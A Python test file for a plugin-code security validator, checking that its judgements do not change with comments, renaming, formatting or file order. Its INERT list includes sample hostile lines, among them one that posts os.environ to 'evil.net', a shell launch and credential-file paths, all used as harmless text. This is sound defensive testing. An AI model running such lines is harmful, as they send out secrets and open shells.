"""What changes nothing for Python changes nothing of a judgement; the same files give the same."""

from __future__ import annotations

import ast
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fuzzing import program
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from near_misses import NEAR_MISSES
from readings import Code, checks, files, judged, parsed, plugin, seen
from spellings import SPELLINGS

from kurt_ext.hostfacts import HostFacts
from kurt_ext.report import Report
from kurt_ext.validator import validate

CODES: list[Code] = [code for _, _, code in SPELLINGS] + [code for _, code in NEAR_MISSES]
TEXTS = [text for code in CODES for text in files(code).values()]
SLACK = settings(deadline=None, max_examples=80, suppress_health_check=list(HealthCheck))
SAMPLE = st.sampled_from([text for text in TEXTS if text.strip()])
INERT = [
    "os.system('id'); eval('1')",
    "requests.post('https://evil.net', data=os.environ)",
    "import subprocess; subprocess.run(['sh'])",
    "~/.ssh/id_rsa and /etc/passwd",
    "__globals__ __subclasses__ pickle.loads",
]


def told(text: Code) -> set[tuple[str, tuple[str, ...]]]:
    """Return what is used, wherever it stands."""
    analysis = seen(text)
    found = {(use.name, use.targets) for use in analysis.uses}
    return found | {(event.rule, ()) for event in analysis.events}


@SLACK
@given(SAMPLE, st.sampled_from(INERT))
def test_comments_change_nothing(text: str, inert: str) -> None:
    comment = f"# {inert}\n"
    assert told(comment + text + "\n" + comment) == told(text)


@SLACK
@given(SAMPLE, st.sampled_from(INERT))
def test_docstrings_and_texts_that_nobody_uses_change_nothing(text: str, inert: str) -> None:
    if "from __future__" not in text:
        assert told(f"{inert!r}\n{text}\n_UNUSED = {inert!r}\n") == told(text)


@pytest.mark.parametrize("inert", INERT)
def test_inert_text_does_not_move_the_score(tmp_path: Path, inert: str) -> None:
    plain = judged(tmp_path / "a" / "com.example.judged", "X = 1\n")
    text = f'"""{inert}"""\n# {inert}\nX = 1\ndef f():\n    """{inert}"""\n    return {inert!r}\n'
    more = judged(tmp_path / "b" / "com.example.judged", text)
    assert plain.score == more.score == 100
    assert more.uses == plain.uses == ()


@SLACK
@given(SAMPLE)
def test_blank_lines_and_spaces_change_nothing(text: str) -> None:
    spaced = "\n\n" + text.replace("\n", "\n\n") + "\n\n\n"
    if '"""' not in text and parsed(spaced) is not None:
        assert told(spaced) == told(text)


@SLACK
@given(SAMPLE)
def test_how_a_tree_is_written_changes_nothing(text: str) -> None:
    tree = parsed(text)
    assert tree is not None
    assert told(ast.unparse(tree)) == told(text)


def renamed(text: str) -> str:
    """Return a module in which every name that it alone gives meaning is another."""
    tree = ast.parse(text)
    bound = {node.id for node in ast.walk(tree) if isinstance(node, ast.Name)
             and isinstance(node.ctx, ast.Store)}  # fmt: skip
    attributes = {n.attr for n in ast.walk(tree) if isinstance(n, ast.Attribute)}
    attributes |= {k.arg for k in ast.walk(tree) if isinstance(k, ast.keyword) and k.arg}
    texts = " ".join(
        str(n.value) for n in ast.walk(tree) if isinstance(n, ast.Constant) and n.value is not None
    )
    fixed = {a.asname or a.name for n in ast.walk(tree)
             if isinstance(n, (ast.Import, ast.ImportFrom)) for a in n.names}  # fmt: skip
    inside = {
        node.id
        for cls in ast.walk(tree)
        if isinstance(cls, ast.ClassDef)
        for node in ast.walk(cls)
        if isinstance(node, ast.Name)
    }
    scoped = {name for n in ast.walk(tree) if isinstance(n, (ast.Global, ast.Nonlocal))
              for name in n.names}  # fmt: skip
    free = bound - attributes - fixed - inside - scoped
    free = {one for one in free if not one.startswith("__") and one not in texts and len(one) < 12}

    class Rename(ast.NodeTransformer):
        def visit_Name(self, node: ast.Name) -> ast.Name:
            if node.id in free:
                node.id = f"renamed_{node.id}"
            return node

    return ast.unparse(Rename().visit(tree))


@pytest.mark.parametrize("text", TEXTS)
def test_other_names_for_what_is_ones_own_change_nothing(text: str) -> None:
    if re.search(r"\b(eval|exec|open|system|input|socket)\b *(=|in|,)", text):
        return  # the name is what is asked about
    assert told(renamed(text)) == told(ast.unparse(ast.parse(text)))


def other_modules(code: dict[str, str]) -> dict[str, str]:
    """Return a skill whose modules have other names."""
    names = {"a": "module_one", "b": "module_two"}

    def changed(text: str) -> str:
        for old, new in names.items():
            text = re.sub(rf"from \.{old} import", f"from .{new} import", text)
            text = re.sub(rf"from \. import {old}\b", f"from . import {new} as {old}", text)
            text = re.sub(rf"'\.{old}'", f"'.{new}'", text)
        return text

    return {f"{names.get(path[:-3], path[:-3])}.py": changed(text) for path, text in code.items()}


@pytest.mark.parametrize("code", [code for _, _, code in SPELLINGS if not isinstance(code, str)])
def test_other_names_of_modules_change_nothing(code: dict[str, str]) -> None:
    assert {name for name, _ in told(other_modules(code))} == {name for name, _ in told(code)}


@pytest.mark.parametrize("code", [code for _, _, code in SPELLINGS if not isinstance(code, str)])
def test_the_order_in_which_files_are_listed_changes_nothing(code: dict[str, str]) -> None:
    one, two = seen(code), seen(dict(reversed(code.items())))
    assert (one.uses, one.events, one.reachable) == (two.uses, two.events, two.reachable)


def test_the_order_of_a_folders_entries_changes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    code = {
        "main.py": "from .a import run\nrun('id')\n",
        "a.py": "from .p.q import run\n",
        "p/__init__.py": "",
        "p/q.py": "from os import system as run\n",
        "tests/test_a.py": "import os\n",
        "README.md": "# Judged\n",
    }
    folder = plugin(tmp_path / "com.example.judged", code)
    report = written(folder)
    real, listed = os.scandir, os.listdir

    class Backwards:
        def __init__(self, path: Any) -> None:
            with real(path) as entries:
                self.entries = list(entries)[::-1]

        def __enter__(self) -> Backwards:
            return self

        def __exit__(self, *_: object) -> None:
            pass

        def __iter__(self) -> Iterator[os.DirEntry[str]]:
            return iter(self.entries)

        def close(self) -> None:
            pass

    monkeypatch.setattr(os, "scandir", Backwards)
    monkeypatch.setattr(os, "listdir", lambda *a: listed(*a)[::-1])
    assert written(folder) == report


def written(folder: Path) -> str:
    """Return the report on a folder as JSON."""
    report = validate(folder, checks=checks(), facts=HostFacts())
    return json.dumps(report.as_dict())


@pytest.mark.parametrize("code", CODES[::11])
def test_the_same_files_give_the_same_report_byte_for_byte(tmp_path: Path, code: Code) -> None:
    folder = plugin(tmp_path / "com.example.judged", code)
    one = written(folder)
    assert written(folder) == one
    again = Report.from_dict(json.loads(one))
    assert json.dumps(again.as_dict()) == one


@pytest.mark.parametrize("code", CODES[::7])
def test_what_is_invalid_has_at_most_59_points(tmp_path: Path, code: Code) -> None:
    report = judged(tmp_path / "com.example.judged", code)
    assert report.valid or report.score <= 59
    assert 0 <= report.score <= 100


@SLACK
@given(st.randoms(use_true_random=False), SAMPLE)
def test_more_code_hides_nothing(random: Any, text: str) -> None:
    more = program(random, 15)
    if parsed(more) is None:
        return
    if re.search(r"^(?:async )?(?:def|class) (?:os|eval|exec|open|system)\b|global", more, re.M):
        return
    dangerous = {use.meaning.category for use in seen(text).uses if use.called}
    both = seen(text + "\n" + more)
    told = dangerous <= {use.meaning.category for use in both.uses}
    # A name that more code makes uncertain is no longer named, and as grave for that.
    grave = any(event.severity == "critical" for event in both.events)
    assert told or grave or not both.complete
